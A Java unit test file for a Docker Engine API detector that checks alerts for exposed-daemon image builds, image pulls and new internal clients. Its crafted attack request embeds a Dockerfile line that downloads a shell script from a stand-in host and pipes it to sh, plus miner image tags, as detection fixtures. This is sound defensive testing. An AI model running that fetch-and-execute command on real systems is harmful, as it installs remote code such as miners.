package io.sluice.detect.analytics;

import static io.sluice.detect.TestEvents.conn;
import static org.assertj.core.api.Assertions.assertThat;

import io.sluice.attack.Technique;
import io.sluice.detect.Alert;
import io.sluice.detect.DetectorHarness;
import io.sluice.detect.Severity;
import io.sluice.event.Ds0029Component;
import io.sluice.event.Event;
import io.sluice.protocol.http.HttpTransaction;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class DockerApiDetectorTest {

    @TempDir
    Path dir;

    private static List<Alert> run(List<? extends Event> events) {
        return DetectorHarness.run(new DockerApiDetector(DockerApiDetector.Config.DEFAULTS), events);
    }

    private static CraftedCapture post(CraftedCapture c, String client, int clientPort, String daemon, int port, String uri) {
        String body = "FROM alpine:3.19\nRUN wget -qO- http://198.51.100.77/x.sh | sh\n";
        String request = "POST " + uri + " HTTP/1.1\r\nHost: " + daemon + ":" + port + "\r\nUser-Agent: Go-http-client/1.1\r\n"
                + "Content-Type: application/x-tar\r\nContent-Length: " + body.length() + "\r\n\r\n" + body;
        String response = "HTTP/1.1 200 OK\r\nApi-Version: 1.41\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}";
        return c.request(client, clientPort, daemon, port, request, response);
    }

    private static List<Alert> of(List<Alert> alerts, Ds0029Component component) {
        return alerts.stream().filter(a -> a.components().contains(component)).toList();
    }

    /** An internet host builds an image on an exposed daemon: content, connection creation and flow all fire. */
    @Test
    void anExternalClientBuildingAnImageOnAnExposedDaemonFiresOnAllThreeComponents() {
        var events = post(new CraftedCapture(), "203.0.113.9", 51000, "10.0.0.50", 2375,
                "/v1.41/build?t=miner:latest&dockerfile=Dockerfile").events(dir);
        assertThat(events).filteredOn(HttpTransaction.class::isInstance).hasSize(1);
        var alerts = run(events);
        assertThat(of(alerts, Ds0029Component.NETWORK_TRAFFIC_CONTENT)).singleElement().satisfies(a -> {
            assertThat(a.techniques()).containsExactly(Technique.of("T1612"));
            assertThat(a.severity()).isEqualTo(Severity.HIGH);
            assertThat(a.explanation()).isEqualTo("203.0.113.9 built an image on the Docker daemon at 10.0.0.50:2375 "
                    + "through the Engine API (POST /v1.41/build?t=miner:latest&dockerfile=Dockerfile, status 200); "
                    + "the client is outside private address space, so the daemon is exposed");
        });
        assertThat(of(alerts, Ds0029Component.NETWORK_CONNECTION_CREATION)).singleElement().satisfies(a -> {
            assertThat(a.severity()).isEqualTo(Severity.HIGH);
            assertThat(a.explanation()).startsWith("203.0.113.9 reached the Docker Engine API at 10.0.0.50:2375 "
                    + "(plain HTTP) for the first time");
        });
        assertThat(of(alerts, Ds0029Component.NETWORK_TRAFFIC_FLOW)).singleElement()
                .satisfies(a -> assertThat(a.techniques()).containsExactly(Technique.of("T1612")));
    }

    @Test
    void anImagePullWithoutAVersionPrefixIsContent() {
        var events = post(new CraftedCapture(), "10.0.3.7", 51000, "10.0.0.50", 2375,
                "/images/create?fromImage=evil/miner&tag=latest").events(dir);
        assertThat(of(run(events), Ds0029Component.NETWORK_TRAFFIC_CONTENT)).singleElement().satisfies(a -> {
            assertThat(a.severity()).isEqualTo(Severity.MEDIUM);
            assertThat(a.explanation()).startsWith("10.0.3.7 pulled an image on the Docker daemon at 10.0.0.50:2375");
        });
    }

    /** Ordinary web traffic, other API calls and GETs stay quiet. */
    @Test
    void ordinaryWebTrafficAndReadOnlyApiCallsAreQuiet() {
        var c = new CraftedCapture();
        HttpDownloads.get(c, "10.0.3.7", 51000, "93.184.216.34", 80, "example.com", "/build", HttpDownloads.FIREFOX,
                "text/html", "<html>ok</html>");
        HttpDownloads.get(c, "10.0.3.7", 51001, "10.0.0.50", 8080, "10.0.0.50", "/v1.41/containers/json", null,
                "application/json", "[]");
        assertThat(run(c.events(dir))).isEmpty();
        assertThat(DockerApiDetector.apiCall("/v1.41/images/json")).isNull();
        assertThat(DockerApiDetector.apiCall("/v1.41/build")).isEqualTo("build");
        assertThat(DockerApiDetector.apiCall("/buildx")).isNull();
    }

    /** Internal clients are learned for an hour; a new one after that is MEDIUM, a known one quiet. */
    @Test
    void internalClientsAreLearnedThenANewOneIsReported() {
        var events = new ArrayList<Event>();
        events.addAll(conn("10.0.0.20", "10.0.0.50", 2376).at(0).state("SF").bytes(500, 900).pkts(6, 5).duration(2).both());
        events.addAll(conn("10.0.0.21", "10.0.0.50", 2376).at(3_599).state("SF").bytes(500, 900).pkts(6, 5).duration(2).both());
        events.addAll(conn("10.0.0.20", "10.0.0.50", 2376).at(4_000).state("SF").bytes(500, 900).pkts(6, 5).duration(2).both());
        assertThat(run(events)).isEmpty();
        events.addAll(4, conn("10.0.9.66", "10.0.0.50", 2376).at(3_700).state("SF").bytes(500, 900).pkts(6, 5).duration(2).both());
        var alerts = run(events);
        // the creation and the flow record of one connection are one incident
        assertThat(alerts).singleElement().satisfies(a -> {
            assertThat(a.srcHost()).isEqualTo("10.0.9.66");
            assertThat(a.severity()).isEqualTo(Severity.MEDIUM);
            assertThat(a.count()).isEqualTo(2);
            assertThat(a.components()).containsExactlyInAnyOrder(Ds0029Component.NETWORK_CONNECTION_CREATION,
                    Ds0029Component.NETWORK_TRAFFIC_FLOW);
        });
        assertThat(alerts.get(0).explanation()).contains("(TLS) for the first time; the daemon had 2 other clients in 61.7 min");
    }

    @Test
    void anAllowedBuildServerIsQuiet() {
        var d = new DockerApiDetector(new DockerApiDetector.Config(0, 16, List.of("203.0.113.9")));
        var events = post(new CraftedCapture(), "203.0.113.9", 51000, "10.0.0.50", 2375, "/build").events(dir);
        assertThat(DetectorHarness.run(d, events)).isEmpty();
    }
}
